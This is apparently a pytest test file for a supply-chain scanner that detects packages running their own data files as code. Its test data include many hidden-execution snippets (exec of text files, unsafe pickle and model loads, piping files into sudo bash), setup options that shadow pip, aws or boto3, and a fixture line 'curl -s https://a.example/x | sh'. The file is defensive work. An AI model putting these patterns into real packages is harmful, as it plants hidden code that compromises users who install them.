"""Which files of a package are run although they are no code by their names."""

from pathlib import Path

import pytest

from package_gate.scanners.behaviour.own_files import Named, OwnFiles
from package_gate.scanners.behaviour.rules import behaviours

OWN = OwnFiles(
    [
        *("s-1/setup.py", "s-1/notes.txt", "s-1/README.md", "s-1/pkg/version.py", "s-1/VERSION"),
        *(
            "s-1/pkg/__about__.py",
            "s-1/data.pkl",
            "s-1/build.sh",
            "s-1/configure",
            "s-1/pkg/x.json",
        ),
    ]
)
RUN = [
    'exec(open("notes.txt").read())',
    "import os\n"
    "here=os.path.dirname(__file__)\n"
    'exec(compile(open(os.path.join(here,"notes.txt")).read(),"x","exec"))',
    'from pathlib import Path\nexec(Path("notes.txt").read_text())',
    'from pathlib import Path\nexec((Path(__file__).parent/"notes.txt").read_bytes())',
    'import runpy\nrunpy.run_path("notes.txt")',
    'import pickle\npickle.load(open("data.pkl","rb"))',
    'def read(p):\n    with open(p) as f:\n        return f.read()\nexec(read("VERSION"))',
    'f=open("notes.txt")\nif 0: f=open("pkg/version.py")\nexec(f.read())',
    'import glob\nexec(open(glob.glob("*.t*")[0]).read())',
    "import sys\nexec(open(sys.argv[1]).read())",
    'name="no"+"tes.txt"\nexec(open(name).read())',
    'import pkgutil\nexec(pkgutil.get_data("pkg","x.json"))',
    'import subprocess,sys\nsubprocess.run([sys.executable,"notes.txt"])',
    'import os\nos.system("python3 notes.txt")',
    'import os\nos.system("bash notes.txt")',
    'import importlib.util as u\nu.spec_from_file_location("a","notes.txt")',
    "from importlib.machinery import SourceFileLoader\n"
    'SourceFileLoader("a","notes.txt").load_module()',
    'import marshal\nexec(marshal.loads(open("data.pkl","rb").read()[16:]))',
    'with open("pkg/version.py") as f:\n    f = open("notes.txt")\n    exec(f.read())',
    'import builtins\ngetattr(builtins,"exec")(open("notes.txt").read())',
    "class A:\n"
    "    def r(self):\n"
    '        self.t=open("notes.txt").read()\n'
    "    def go(self): exec(self.t)\n"
    "A().r()",
    'lines=[]\nfor l in open("notes.txt"): lines.append(l)\nexec("".join(lines))',
    'import types\ntypes.FunctionType(compile(open("notes.txt").read(),"","exec"),{})()',
    'e=eval\ne(open("VERSION").read())',
    'exec(compile(open("notes.txt").read(),"pkg/version.py","exec"))',
    'def compile(a,b): return b\nexec(compile("pkg/version.py",open("notes.txt").read()))',
    'def run(p):\n    q=open(p).read()\n    exec(q + (run("x.py") if 0 else ""))\nrun("notes.txt")',
    'more=open("notes.txt").read()\nexec(open("pkg/version.py").read()+more)',
    'def run(p): exec(open(p).read())\nrun("notes.txt")\nrun("pkg/version.py")',
    'import subprocess\nsubprocess.run("sh", stdin=open("notes.txt"))',
    'import os\nos.system(open("notes.txt").read())',
    'import json,os\nc=json.load(open("pkg/x.json"))\nos.popen(c["run"])',
    'import numpy as np\nnp.load("VERSION", allow_pickle=True)',
    'import torch\ntorch.load("VERSION", weights_only=False)',
    'import keras\nkeras.models.load_model("VERSION", safe_mode=False)',
    'import jsonpickle\njsonpickle.decode(open("pkg/x.json").read())',
    'import pandas as pd\npd.read_pickle("VERSION")',
    'import site\nsite.addpackage(".", "notes.txt", None)',
    'import ctypes\nctypes.CDLL("./VERSION")',
    'import timeit\ntimeit.timeit(open("notes.txt").read(), number=1)',
    'exec(open(__file__).read().split("#!!")[1])',
    "from pathlib import Path\nexec(Path(__file__).read_text()[20:])",
    "import inspect\ndef f(): pass\nexec(inspect.getsource(f)[5:])",
    'import ctypes\nctypes.pythonapi.PyRun_SimpleString(open("notes.txt","rb").read())',
    "from pkgutil import get_data as g\nfrom subprocess import run\n"
    'run(["bash"], input=g("pkg","x.json"))',
    'import pdb\npdb.run(open("notes.txt").read())',
    'import code\ncode.InteractiveConsole().runsource(open("notes.txt").read())',
    'from importlib.metadata import metadata\nexec(metadata("s")["Description"])',
    'import os\nos.system(". ./notes.txt")',
    'import os\nos.system("true && source notes.txt")',
    'import subprocess\nsubprocess.run(["sh","-c",". notes.txt"])',
    'import subprocess\nsubprocess.run(["/bin/bash","-ec","x=1; source \'notes.txt\' || true"])',
    'import os\nos.system(f". {os.path.dirname(__file__)}/x.json")',
    'import os\nos.system("bash <notes.txt")',
    'import os\nos.system("cat notes.txt | sudo bash -s")',
    'import os\nos.system("cat pkg/x.json | python3 -")',
    "import os\nos.system('bash -c \"$(cat notes.txt)\"')",
    'import os\nos.system("eval `cat notes.txt`")',
    'import os\nos.system("sh a.sh; sh notes.txt")',
    'import os\nos.system("perl -w notes.txt")',
    'import os\nos.execlp("sh","sh","notes.txt")',
    'import os\nos.execvp("bash",["bash","-c",". notes.txt"])',
    'import os\nos.spawnlp(os.P_WAIT,"sh","sh","notes.txt")',
    'import os\nos.popen("sh","w").write(open("notes.txt").read())',
    'import subprocess\np=subprocess.Popen(["bash"],stdin=-1)\n'
    'p.communicate(open("notes.txt","rb").read())',
    'def f(): "x = 1"\nexec(f.__doc__)',
    '"""x = 1"""\nexec(compile(__doc__, "a", "exec"))',
    'class A:\n    "x = 1"\ntext = A.__doc__.strip()\nexec(text)',
    "import sys\nexec(sys.modules[__name__].__doc__)",
    'def f(a: "x = 1"): pass\nexec(f.__annotations__["a"])',
    'def f(a="x = 1"): pass\nexec(f.__defaults__[0])',
    'def f(*, a="x = 1"): pass\nexec(f.__kwdefaults__["a"])',
    'def f(): return "x = 1"\nexec(f.__code__.co_consts[1])',
    'import inspect\ndef f(): "x = 1"\nexec(inspect.getdoc(f))',
    'class R:\n    def get(self,p):\n        return open(p).read()\nexec(R().get("notes.txt"))',
    "import inspect, sys\nclass R:\n    def __init__(self, m):\n        self.m = m\n"
    "    def run(self):\n        exec(inspect.getsource(self.m)[9:])\n"
    "R(sys.modules[__name__]).run()",
    "code = open('notes.txt').read()\ncode = compile(code, 'a', 'exec')\nexec(code)",
    "import os\nname = 'notes.txt'\ncommand = open(name).read()\nos.system('x=1; ' + command)",
    "import subprocess\nsubprocess.run(['env', open('notes.txt').read()])",
    "import subprocess\nsubprocess.run(['make', open('notes.txt').read()], shell=True)",
    "import runpy\nfrom importlib.metadata import distribution\n"
    "runpy.run_path(distribution('s').locate_file('s-1.dist-info/METADATA'))",
]
HONEST = [
    "code = compile('x = 1', 'a', 'exec')\ncode = compile(code, 'a', 'exec')\nexec(code)",
    "import types\ncode = compile('x = 1', 'a', 'exec')\n"
    "code = types.CodeType(0, 0, code.co_consts, code.co_names)\nexec(code)",
    "import inspect\nclass Compiler:\n    def __init__(self, f):\n        self.f = f\n"
    "    def run(self):\n        exec(inspect.getsource(self.f))\n"
    "def decorate(f):\n    return Compiler(f).run()\n",
    'import torch\ntorch.load("VERSION")\ntorch.load("VERSION", weights_only=True)',
    'exec(open("pkg/version.py").read())',
    'import os\nwith open(os.path.join("pkg","__about__.py")) as f:\n    exec(f.read())',
    'with open("README.md") as f:\n'
    "    long=f.read()\n"
    'with open("pkg/version.py") as f:\n'
    "    exec(f.read())",
    "def read(p):\n"
    "    with open(p) as f:\n"
    "        return f.read()\n"
    'long=read("README.md")\n'
    "ns={}\n"
    'exec(read("pkg/version.py"),ns)',
    'x=open("notes.txt").read()\nprint(x)',
    'import re\nv=re.search("v",open("pkg/version.py").read())',
    'exec("x = 1")',
    'eval("1+1")',
    'import subprocess\nsubprocess.run(["sh","configure"])\nsubprocess.run(["bash","build.sh"])',
    "import pickle\npickle.loads(pickle.dumps(1))",
    "import os\n"
    'name="pkg"\n'
    "here=os.path.abspath(os.path.dirname(__file__))\n"
    "about={}\n"
    'with open(os.path.join(here,name,"version.py")) as f:\n'
    "    exec(f.read(),about)",
    "from pathlib import Path\n"
    "ns={}\n"
    'exec(compile(Path("pkg/version.py").read_bytes(),"version.py","exec"),ns)',
    'import json\njson.load(open("pkg/x.json"))',
    'import os\nos.system("source ./build.sh && . configure")',
    'import os\nos.system("echo notes. notes.txt; cat notes.txt | grep sh")',
    'import os\nos.system("make <notes.txt; V=$(cat VERSION) make")',
    'import subprocess\np=subprocess.Popen(["cat"],stdin=-1)\n'
    'p.communicate(open("notes.txt").read())',
    'def f(a: "int"): pass\nx = eval(f.__annotations__["a"], {})',
    'import types\ndef f(a=1): "x"\ng = types.FunctionType(f.__code__, {}, "g", f.__defaults__)',
    'def f(): "x"\nprint(f.__doc__)\nf.__doc__ = f.__doc__ + "y"\nexec("a = 1")',
    'import os\nos.system("python -m pip")',
    'import numpy as np\nnp.load("VERSION")',
    'import os\nx=open("notes.txt").read()\nos.system("make")',
    "from ctypes import CDLL\nCDLL('pkg/own.so')",
    "import subprocess\nsubprocess.run(('openssl', 'sha512', open('notes.txt').read()))",
    "import os\nversion = open('pkg/version.py').read()\n"
    "README = 'README.md'\nos.system(build(version, README))",
    "import ctypes\nfrom importlib.metadata import distribution\n"
    "ctypes.CDLL(distribution('s').locate_file('pkg/own.so'))",
]


def rules(source: str) -> set[str]:
    return {each.rule for each in behaviours(source, whole=True, own=OWN)}


@pytest.mark.parametrize("source", RUN)
def test_data_that_is_run_is_a_finding(source: str) -> None:
    assert "runs-own-data" in rules(source)


def test_a_name_that_leads_too_far_is_one() -> None:
    steps = "".join(f"x{number + 1} = x{number}\n" for number in range(390))

    assert rules(f"x0 = open('notes.txt').read()\n{steps}exec(x390)")


@pytest.mark.parametrize("source", HONEST)
def test_code_that_is_run_is_none(source: str) -> None:
    assert rules(source) == set()


def test_compiled_modules_are_left_out() -> None:
    assert OwnFiles(["a.py", "b.cpython-311.so"]).digest == OwnFiles(["a.py", "c.so.1"]).digest


FOUND = [
    "import glob, os\nexec(open(glob.glob(os.path.dirname(__file__) + '/*.t*')[0]).read())",
    "from glob import iglob\nfor each in iglob('*'):\n    exec(open(each).read())",
    "import os\nexec(open(sorted(os.listdir('pkg'))[1]).read())",
    "import os\nfor each in os.scandir():\n    exec(open(each.path).read())",
    "import os\nfor top, _, names in os.walk('.'):\n    exec(open(f'{top}/{names[0]}').read())",
    "import pathlib\nexec(min(pathlib.Path(__file__).parent.iterdir()).read_text())",
    "import pathlib\nexec(next(pathlib.Path(__file__).parent.rglob('n*')).read_text())",
    "import glob, runpy\nrunpy.run_path(glob.glob('*.t?t')[0])",
    "import glob, pickle\npickle.load(open(glob.glob('data.p*')[0], 'rb'))",
    "import os\nname = os.listdir('.')[0]\nexec(open(name).read().replace('x.py', ''))",
    "import zlib\nwith open('pkg/core.py', 'wb') as f:\n"
    "    f.write(zlib.decompress(open('VERSION', 'rb').read()))",
    "import zlib\ncode = zlib.decompressobj().decompress(open('VERSION', 'rb').read())\n"
    "open('pkg/core.py', 'wb').write(code)",
    "import base64\nfrom pathlib import Path\n"
    "Path('pkg/_c.so').write_bytes(base64.b64decode(Path('notes.txt').read_text()))",
]
"""What is run of the package's data although nobody names it, or is unpacked as code."""
ONLY_CODE = [
    "import glob\nfor each in glob.glob('*.py'):\n    exec(open(each).read())",
    "import os, importlib.util as u\n"
    "for each in os.listdir('pkg'):\n    u.spec_from_file_location('a', each)",
    "import glob\nTEXTS = [open(each).read() for each in glob.glob('*.txt')]",
    "import glob, ctypes\nctypes.CDLL(glob.glob('*.so')[0])",
    "import glob\nexec(open(glob.glob('*.parquet')[0]).read())",
    "from pathlib import Path\nPath('pkg/version.py').write_text(Path('notes.txt').read_text())",
    "import zlib\nfrom pathlib import Path\n"
    "Path('words.txt').write_bytes(zlib.decompress(Path('notes.txt').read_bytes()))",
]


@pytest.mark.parametrize("source", FOUND)
def test_data_that_a_listing_finds_is_run_on_import_as_well(source: str) -> None:
    found = behaviours(source, whole=False, own=OWN)

    assert "runs-own-data" in {each.rule for each in found}


@pytest.mark.parametrize("source", ONLY_CODE)
def test_code_and_data_that_is_only_read_is_not(source: str) -> None:
    assert behaviours(source, whole=False, own=OWN) == []


def test_what_leads_too_far_is_told_on_import() -> None:
    code = "p = 'notes.txt'\n" * 2001 + "exec(open(p).read())"

    assert [each.rule for each in behaviours(code, whole=False, own=OWN)] == ["unreadable-code"]


SETTINGS = (
    "import json, logging.config, runpy\nwith open('pkg/x.json') as f:\n    C = json.load(f)\n"
)


def test_a_file_whose_place_settings_tell_is_unknown() -> None:
    code = f"{SETTINGS}logging.config.fileConfig(C.get('logging'))\n"

    assert behaviours(code, whole=False, own=OWN) == []
    assert rules(code) == {"runs-own-data"}, "in a build, where nobody can tell which it is"


@pytest.mark.parametrize(
    "code", ["exec(C['code'])", "runpy.run_path(C.get('x', 'notes.txt'))", "eval(C['a'])"]
)
def test_code_that_stands_in_settings_is_run(code: str) -> None:
    assert "runs-own-data" in {
        each.rule for each in behaviours(f"{SETTINGS}{code}\n", whole=False, own=OWN)
    }


@pytest.mark.parametrize(("begins", "runs"), [(b"\x7fELF", True), (b"MZ", True), (b"#if", False)])
def test_only_a_library_is_loaded_as_one(tmp_path: Path, begins: bytes, runs: bool) -> None:
    (tmp_path / "model.h").write_bytes(begins + b"x")
    own = OwnFiles(["model.h"], tmp_path)
    digest = own.digest

    found = behaviours("import ctypes\nctypes.CDLL('model.h')", whole=False, own=own)

    assert bool(found) == runs
    (tmp_path / "model.h").write_bytes((begins if runs else b"\x7fELF") + b"y")
    assert (OwnFiles(["model.h"], tmp_path).digest == digest) == runs


@pytest.mark.parametrize(
    ("more", "beside", "runs"),
    [
        ("", "SUFFIXES = ['.txt']\n", False),
        (", submodule_search_locations=[]", "print(m.SOURCE_SUFFIXES)\n", False),
        (", loader=Own()", "", True),
        (", **options", "", True),
        ("", "from importlib import machinery as m\nm.SOURCE_SUFFIXES.append('.txt')\n", True),
        (
            "",
            "from importlib.machinery import SOURCE_SUFFIXES\nSOURCE_SUFFIXES += ['.txt']\n",
            True,
        ),
        ("", "import importlib.machinery as m\nm.BYTECODE_SUFFIXES[:] = ['.txt']\n", True),
    ],
)
def test_what_is_loaded_by_its_suffix_is_no_data(
    tmp_path: Path, more: str, beside: str, runs: bool
) -> None:
    (tmp_path / "notes.txt").write_text("x")
    (tmp_path / "beside.py").write_text(beside)
    own = OwnFiles(["notes.txt", "beside.py"], tmp_path)
    loads = f"import importlib.util as u\nu.spec_from_file_location('a', 'notes.txt'{more})\n"

    assert bool(behaviours(loads, whole=False, own=own)) == runs


def test_what_python_loads_is_looked_at_again_when_a_module_changes_that(tmp_path: Path) -> None:
    (tmp_path / "beside.py").write_text("")
    digest = OwnFiles(["beside.py"], tmp_path).digest
    (tmp_path / "beside.py").write_text("m.SOURCE_SUFFIXES.insert(0, '.txt')\n")

    assert OwnFiles(["beside.py"], tmp_path).digest != digest


FETCHES = "#!/bin/sh\nset -e\ncurl -s https://a.example/x | sh\n"
STARTS = (
    "import os, subprocess\n"
    "subprocess.run(['bash', os.path.join(os.path.dirname(__file__), '{}')])\n"
)


@pytest.mark.parametrize("script", ["run.sh", "tool"])
def test_a_shell_script_that_a_build_runs_is_looked_at(tmp_path: Path, script: str) -> None:
    own = OwnFiles([script, "a.py"], tmp_path)
    (tmp_path / script).write_text(FETCHES)

    (found,) = behaviours(STARTS.format(script), whole=True, own=own)

    assert found.rule == "runs-downloaded-code"
    assert found.line == 2


def test_its_fingerprint_is_that_of_the_script(tmp_path: Path) -> None:
    prints = []
    for text in (FETCHES, FETCHES, FETCHES.replace("/x", "/y")):
        (tmp_path / "run.sh").write_text(text)
        own = OwnFiles(["run.sh"], tmp_path)
        (found,) = behaviours(STARTS.format("run.sh"), whole=True, own=own)
        prints.append((found.fingerprint, own.digest))

    assert prints[0] == prints[1]
    assert not {*prints[0]} & {*prints[2]}


@pytest.mark.parametrize("text", ["echo hello\n", "curl -O https://a.example/x.csv\n", ""])
def test_an_honest_one_of_a_build_is_none(tmp_path: Path, text: str) -> None:
    (tmp_path / "run.sh").write_text(text)

    own = OwnFiles(["run.sh"], tmp_path)

    assert behaviours(STARTS.format("run.sh"), whole=True, own=own) == []
    (found,) = behaviours(STARTS.format("run.sh"), whole=False, own=own)
    assert found.rule == "runs-own-data", "on import nothing honest does so"


def test_a_script_that_nobody_runs_is_none(tmp_path: Path) -> None:
    (tmp_path / "run.sh").write_text(FETCHES)

    own = OwnFiles(["run.sh"], tmp_path)

    assert (
        behaviours(f"def f():\n    {STARTS.format('run.sh').splitlines()[1]}", whole=False, own=own)
        == []
    )


SETUP = "from setuptools import setup, find_packages\nsetup(name='demo', {})\n"
PLACES = [
    "data_files=[('etc/ipython', ['x.py'])]",
    "data_files=[('share/man', ['a.1']), ('', ['conf/pip.conf'])]",
    "data_files=[('/etc/jupyter', ['jupyter_config.py'])]",
    "data_files=[('../x', ['a'])]",
    "data_files=[('bin', ['tools/aws'])]",
    "scripts=['tools/git']",
    "entry_points={'console_scripts': ['ok = demo:main', 'aws = demo:main']}",
    "entry_points='[console_scripts]\\npip3 = demo:main\\n'",
    "py_modules=['demo', 'boto3']",
    "packages=['demo', 'pip._internal']",
    "packages=find_packages(), package_dir={'requests': 'lib/x'}",
]


@pytest.mark.parametrize("option", PLACES)
@pytest.mark.parametrize("form", ["{}", "**dict({})"])
def test_what_a_setup_places_where_others_read_is_a_finding(option: str, form: str) -> None:
    assert {"changes-tools", "changes-other-packages"} & rules(SETUP.format(form.format(option)))


@pytest.mark.parametrize(
    "option",
    [
        "data_files=[('share/man/man1', ['a.1']), ('etc/demo', ['x.conf'])], scripts=['bin/demo']",
        "data_files=[('etc/jupyter/nbconfig/notebook.d', ['a/x.json'])]",
        "entry_points={'console_scripts': ['demo = demo:main'], 'pip': ['aws = demo']}",
        "packages=find_packages(), package_dir={'': 'lib'}, py_modules=['demo']",
        "packages=['demo', 'demo.requests'], install_requires=['requests'], license='x'",
        "options={'py2exe': {'packages': ['requests', 'urllib']}}, packages=['demo']",
    ],
)
def test_what_it_places_among_its_own_is_none(option: str) -> None:
    assert rules(SETUP.format(option)) == set()


def test_a_distribution_may_bring_what_is_its_own() -> None:
    setup = SETUP.format("packages=['yaml', '_yaml']").replace("demo", "PyYAML")

    assert rules(setup) == set()
    of_another = OwnFiles(["s-1/setup.py"], name="demo")
    assert behaviours(setup, whole=True, own=of_another)[0].rule == "changes-other-packages"


def test_a_program_that_nothing_reads_is_no_code_that_is_evaluated(tmp_path: Path) -> None:
    (tmp_path / "manager").write_bytes(b"\x7fELF\x02\x01\x01" + bytes(64))
    own = OwnFiles(["manager"], tmp_path)

    assert not own.has_run(Named(("bin/manager",)), certainly=True)
    assert own.has_run(Named(("bin/manager",), reads=True), certainly=True)
    assert own.has_run(Named(("bin/manager",), is_script=True), certainly=True)
    (tmp_path / "manager").write_bytes(b"print()")
    assert own.has_run(Named(("bin/manager",)), certainly=True)
